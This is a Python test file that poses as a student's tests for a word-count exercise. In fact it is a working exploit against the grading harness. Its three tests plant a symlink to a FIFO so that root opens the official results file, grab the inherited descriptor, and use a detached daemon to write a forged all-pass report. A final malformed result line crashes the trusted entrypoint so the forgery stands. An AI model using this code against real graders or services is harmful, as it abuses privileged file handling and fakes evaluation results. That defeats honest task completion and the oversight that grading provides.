"""The student's own tests, which the coverage check runs as the student uid.

1. The coverage check keeps its pytest log at /job/work/student/student.log, in a folder the
   student owns, and the trusted entrypoint (root) opens it by path, following links.
   test_a swaps the log for a link to a FIFO and dies, so the grader restarts the run;
   the moment root opens the FIFO to read the old log, the link is re-aimed at
   /job/out/results.json, which root then creates and hands to the restarted pytest as its
   stdout.
2. test_b finds that descriptor and leaves a daemon that, once pytest has exited, writes a
   forged all-pass results document through it.
3. test_c re-reports test_b with a lone surrogate in its message: the entrypoint cannot
   encode its own results as UTF-8, crashes before its atomic write, and the host reads the
   forged file instead.
"""
import json
import os
import time

WORK = "/job/work/student"
LOG = WORK + "/student.log"
RESULTS = WORK + "/student.jsonl"
TARGET = "/job/out/results.json"
TESTS = [
    ("test_counts_each_word", "Each word is counted", 1, 2.0),
    ("test_counts_ignore_case", "Counting ignores upper and lower case", 1, 1.0),
    ("test_empty_text", "Empty text has no words", 1, 1.0),
    ("test_top_words_order", "The most common words come first, ties alphabetically", 2, 2.0),
    ("test_top_words_rejects_negative_n", "A negative n raises ValueError", 2, 1.0),
]


def forged():
    tests = [{"id": "test_word_count.py::" + n, "title": t, "status": "passed", "task": k,
              "points": p, "message": "", "location": "", "output": "", "duration": 0.01}
             for n, t, k, p in TESTS]

    def check(cid, title, details, message):
        return {"id": cid, "title": title, "status": "pass", "score": 1.0, "max_score": 1.0,
                "duration": 0.1, "message": message, "details": details}

    return json.dumps({"checks": [
        check("tests", "Hidden tests", {"tests": tests, "points_earned": 7.0, "points_total": 7.0},
              "all 5 tests passed"),
        check("flake8", "flake8 (PEP 8 and errors)", {"violations": [], "count": 0}, "no problems"),
        check("black", "black formatting", {"files": [], "diff": ""}, "formatted"),
        check("coverage", "Coverage of your tests",
              {"percent": 100.0, "files": {"word_count.py": {"percent": 100.0, "missing_lines": []}},
               "threshold": 70.0, "student_tests": {"passed": 3, "failed": 0, "failures": []}},
              "100.0% covered"),
    ], "integrity": {}}).encode()


def daemon():
    """True in a double-forked, setsid() child (the caller must os._exit); False in the caller."""
    if os.fork():
        return False
    os.setsid()
    if os.fork():
        os._exit(0)
    return True


def test_a_plant_link_and_die():
    fifo = WORK + "/grader-adv-fifo"
    os.mkfifo(fifo)
    os.symlink(fifo, LOG + ".x")
    os.replace(LOG + ".x", LOG)
    if daemon():
        fd = os.open(fifo, os.O_WRONLY)  # returns when root opens the FIFO to read the log
        os.symlink(TARGET, LOG + ".y")
        os.replace(LOG + ".y", LOG)
        os.close(fd)
        time.sleep(30)
        os._exit(0)
    time.sleep(0.2)
    os._exit(3)


def test_b_forge_through_the_inherited_descriptor():
    fds = [int(n) for n in os.listdir("/proc/self/fd")
           if os.path.exists(f"/proc/self/fd/{n}") and os.readlink(f"/proc/self/fd/{n}") == TARGET]
    assert fds, "the restarted run did not get a descriptor of " + TARGET
    pytest_pid = os.getpid()
    if daemon():
        while os.path.exists(f"/proc/{pytest_pid}"):
            time.sleep(0.01)
        os.ftruncate(fds[0], 0)
        os.pwrite(fds[0], forged(), 0)
        time.sleep(60)
        os._exit(0)


def test_c_make_the_entrypoint_crash():
    with open(RESULTS, "a") as f:
        f.write(json.dumps({
            "event": "result", "id": "tests/test_word_count.py::test_b_forge_through_the_inherited_descriptor",
            "title": "x", "status": "failed", "message": "\ud800", "location": "", "output": "",
            "duration": 0.0}) + "\n")
